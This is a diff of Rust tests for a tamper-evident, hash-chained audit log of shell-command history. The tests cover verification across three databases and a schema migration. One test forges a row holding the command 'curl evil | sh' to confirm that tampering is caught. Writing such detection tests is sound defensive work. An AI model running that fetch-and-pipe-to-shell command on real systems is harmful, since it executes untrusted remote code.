@@ -1085,9 +1085,9 @@ fn verify_catches_a_forged_row_with_a_copied_hash() {
     let inserted = db_exec(
         &server,
         "INSERT INTO server_history (host_id, history_ip, history_id, history_user, login_user, tty, history_datetime, \
-         received_at, history_command, source, stream, seq, dedup_key, chain_seq, prev_hash, row_hash) \
+         received_at, history_command, source, stream, seq, chain_seq, row_hash) \
          SELECT host_id, history_ip, history_id + 1, history_user, login_user, tty, history_datetime, received_at, \
-         'curl evil | sh', source, stream, seq + 1, substr('f' || dedup_key, 1, 64), chain_seq + 1, row_hash, row_hash \
+         'curl evil | sh', source, stream, seq + 1, chain_seq + 1, row_hash \
          FROM server_history WHERE id = 3",
     );
     assert_eq!(inserted, 1);
@@ -1236,8 +1236,13 @@ mod dialects {
         let a = store.add_host(&host("alpha", "10.1.0.1")).await.unwrap().id;
         let b = store.add_host(&host("beta", "10.1.0.2")).await.unwrap().id;
         let c = store.add_host(&host("gamma", "2001:db8::7")).await.unwrap().id;
-        let audit: Arc<AuditService> =
-            AuditService::start(store.clone(), AuditConfig::default(), b"test chain key".to_vec());
+        let audit: Arc<AuditService> = AuditService::start(
+            store.clone(),
+            store.audit_sink().unwrap(),
+            AuditConfig::default(),
+            b"test chain key".to_vec(),
+        )
+        .unwrap();
         let host_of = move |i: usize| if i < 2 { a } else { b };
 
         // 1000 events in 4 concurrent batches, then the same 4 again, concurrently.
@@ -1396,5 +1401,104 @@ mod dialects {
     #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
     async fn the_audit_service_behaves_alike_on_sqlite_mariadb_and_postgresql() {
         on_each_dialect(|dialect, url| async move { check(dialect, &url).await }).await;
+    }
+
+    /// Applies only the migrations before `version`, as an older server did.
+    async fn migrate_before(dialect: Dialect, url: &str, version: i64) {
+        let folder = match dialect {
+            Dialect::Sqlite => "sqlite",
+            Dialect::MySql => "mysql",
+            Dialect::Postgres => "postgres",
+        };
+        let dir = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../migrations").join(folder);
+        let mut migrator = sqlx::migrate::Migrator::new(dir).await.unwrap();
+        migrator.migrations = migrator.migrations.iter().filter(|m| m.version < version).cloned().collect();
+        match dialect {
+            Dialect::Sqlite => {
+                use std::str::FromStr;
+                let options = sqlx::sqlite::SqliteConnectOptions::from_str(url).unwrap().create_if_missing(true);
+                let mut c = sqlx::SqliteConnection::connect_with(&options).await.unwrap();
+                migrator.run(&mut c).await.unwrap();
+            }
+            Dialect::MySql => migrator.run(&mut sqlx::MySqlConnection::connect(url).await.unwrap()).await.unwrap(),
+            Dialect::Postgres => migrator.run(&mut sqlx::PgConnection::connect(url).await.unwrap()).await.unwrap(),
+        }
+    }
+
+    #[tokio::test]
+    async fn rows_sealed_before_migration_3_still_verify_after_it() {
+        on_each_dialect(|dialect, url| async move {
+            // Migration 3 dropped the stored dedup_key and prev_hash; the MAC still covers both, derived.
+            migrate_before(dialect, &url, 3).await;
+            let key = b"test chain key".to_vec();
+            raw(
+                dialect,
+                &url,
+                "INSERT INTO server_list (server_name, server_lip, created_at) VALUES ('old', '10.9.0.1', 0)",
+            )
+            .await;
+            let chain_key = omserver::audit::chain::ChainKey::new(&key);
+            let mut prev = omserver::audit::chain::GENESIS.to_owned();
+            for n in 1..=2_i64 {
+                let row = AuditRow {
+                    id: 0,
+                    host_id: 1,
+                    history_ip: "10.9.0.1".into(),
+                    history_id: n,
+                    history_user: "root".into(),
+                    login_user: None,
+                    tty: Some("pts/0".into()),
+                    history_datetime: format!("2026-11-2{n} 10:00:00"),
+                    received_at: 1_700_000_000_000 + n,
+                    history_command: format!("echo 'it''s {n}'"),
+                    source: "legacy".into(),
+                    stream: None,
+                    seq: None,
+                    chain_seq: n,
+                    row_hash: String::new(),
+                };
+                let dedup = omserver::audit::chain::dedup_key(&row);
+                let hash = omserver::audit::chain::seal(&chain_key, &row, &prev, &dedup);
+                raw(
+                    dialect,
+                    &url,
+                    &format!(
+                        "INSERT INTO server_history (host_id, history_ip, history_id, history_user, tty, \
+                         history_datetime, received_at, history_command, source, dedup_key, chain_seq, prev_hash, \
+                         row_hash) VALUES (1, '10.9.0.1', {n}, 'root', 'pts/0', '{}', {}, '{}', 'legacy', '{dedup}', \
+                         {n}, '{prev}', '{hash}')",
+                        row.history_datetime,
+                        row.received_at,
+                        row.history_command.replace('\'', "''"),
+                    ),
+                )
+                .await;
+                prev = hash;
+            }
+            raw(
+                dialect,
+                &url,
+                &format!("INSERT INTO audit_chain (host_id, last_seq, last_hash) VALUES (1, 2, '{prev}')"),
+            )
+            .await;
+
+            let store = Store::connect(&url).await.unwrap();
+            let report = omserver::audit::chain::verify(&store, &key).await.unwrap();
+            assert_eq!((report.hosts, report.rows, report.findings), (1, 2, vec![]), "{dialect:?}");
+            // The writer continues the old chain.
+            let audit =
+                AuditService::start(store.clone(), store.audit_sink().unwrap(), AuditConfig::default(), key.clone())
+                    .unwrap();
+            let batch: AgentBatch = serde_json::from_value(json!({ "events": [{
+                "stream": "s", "seq": 1, "history_id": 3, "user": "root", "time": "2026-11-24 10:00:00",
+                "command": "uptime"
+            }]}))
+            .unwrap();
+            assert_eq!(audit.ingest_agent(Some(1), batch).await.unwrap().stored, 1);
+            let report = omserver::audit::chain::verify(&store, &key).await.unwrap();
+            assert_eq!((report.hosts, report.rows, report.findings), (1, 3, vec![]), "{dialect:?}");
+            store.close().await;
+        })
+        .await;
     }
 }
